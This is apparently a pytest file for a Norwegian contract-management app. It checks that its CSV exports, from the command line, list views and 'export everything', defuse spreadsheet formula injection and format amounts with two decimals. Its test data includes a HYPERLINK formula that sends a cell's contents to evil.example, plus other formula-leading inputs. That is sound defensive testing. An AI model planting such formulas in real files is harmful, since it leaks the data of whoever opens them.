"""CSV files never carry a live formula (issue 12 item 10), and amounts in them always
have two decimals (issue 13 item 12). All four ways out: ``export --csv``, ``deadlines
--csv``, a list's export (Ctrl+E) and File → Export everything as CSV, each the program's
one writer (``app.storage.csv_files.write_csv``). Read back as Excel would split them.
"""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

from app.cli import run_command
from app.domain.records import Contract, Customer
from app.storage.csv_files import ENCODING, FORMULA_START
from app.ui.files import SafeFileDialog
from app.ui.main_window import MainWindow

from .conftest import TODAY

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Klikk")'
HOSTILE = [EVIL, "+47 32 12 34 56", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile(repos) -> list[str]:  # noqa: ANN001
    """Customers named like formulas, each with a contract that has deadlines."""
    names = []
    for n, text in enumerate(HOSTILE):
        customer = repos.customers.add(Customer(name=text, note=text, org_number="914573262"))
        repos.contracts.add(
            Contract(
                customer_id=customer.id,
                title=f"Avtale {n}",
                template="sodvin",
                signed=date(2026, 1, 5),
                ordinary_start=date(2026, 1, 15),
                monthly_fee=Decimal("12500.5"),
            )
        )
        names.append(customer.name)  # as stored (a leading tab or CR is trimmed)
    return names


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding=ENCODING, newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _assert_no_formula(path: Path) -> None:
    for row in _cells(path):
        for cell in row:
            if cell.startswith(FORMULA_START):  # only numbers the program wrote may start so
                assert cell.lstrip("-").replace(",", "").replace(".", "").isdigit(), (path, cell)


def test_export_csv_and_deadlines_csv_neutralise_formulas(repos, database, tmp_path, capsys):  # noqa: ANN001
    names = _hostile(repos)
    folder = tmp_path / "alt"
    assert run_command(["export", "--db", str(database.path), "--csv", str(folder)]) == 0
    _assert_no_formula(folder / "customers.csv")
    table = _cells(folder / "customers.csv")
    customers = {row[table[0].index("name")] for row in table[1:]}
    assert {"'" + n for n in names} <= customers
    for table in folder.glob("*.csv"):
        _assert_no_formula(table)
    # amounts always with two decimals, in the decimal comma Excel in Norway reads
    contracts = _cells(folder / "contracts.csv")
    fee = contracts[0].index("monthly_fee")
    assert {row[fee] for row in contracts[1:]} >= {"12500,50", "10000,00"}
    listing = tmp_path / "frister.csv"
    args = ["deadlines", "--db", str(database.path), "--today", TODAY.isoformat()]
    assert run_command([*args, "--days", "400", "--csv", str(listing)]) == 0
    rows = _cells(listing)
    assert any("'" + EVIL in row for row in rows), rows[:3]
    _assert_no_formula(listing)


def test_the_lists_and_export_everything_neutralise_formulas(
    qtbot, database, repos, monkeypatch, tmp_path
):  # noqa: ANN001
    _hostile(repos)
    window = MainWindow(database=database, repos=repos, today=TODAY, persist=False)
    qtbot.addWidget(window)
    window.show()
    for page in ("customers", "contracts", "overview"):
        shown = window.show_page(page)
        if page == "overview":
            assert shown.wait_until_loaded()
        target = tmp_path / f"{page}.csv"
        monkeypatch.setattr(
            SafeFileDialog,
            "getSaveFileName",
            staticmethod(lambda *a, target=target, **k: (str(target), a[3])),
        )
        window.export_action.trigger()
        qtbot.waitUntil(target.exists, timeout=10_000)
        rows = _cells(target)
        if page != "overview":  # (its default days ahead need not reach these contracts:
            # the same report is checked with its customers by ``deadlines --csv`` above)
            assert any("'" + EVIL in row for row in rows), (page, rows[:3])
        _assert_no_formula(target)
    folder = tmp_path / "alt"
    folder.mkdir()
    monkeypatch.setattr(
        SafeFileDialog, "getExistingDirectory", staticmethod(lambda *a, **k: str(folder))
    )
    window.export_csv_action.trigger()
    assert window.jobs["export"].wait()
    for table in folder.glob("*.csv"):
        _assert_no_formula(table)
    contracts = _cells(folder / "contracts.csv")
    fee = contracts[0].index("monthly_fee")
    assert "12500,50" in {row[fee] for row in contracts[1:]}
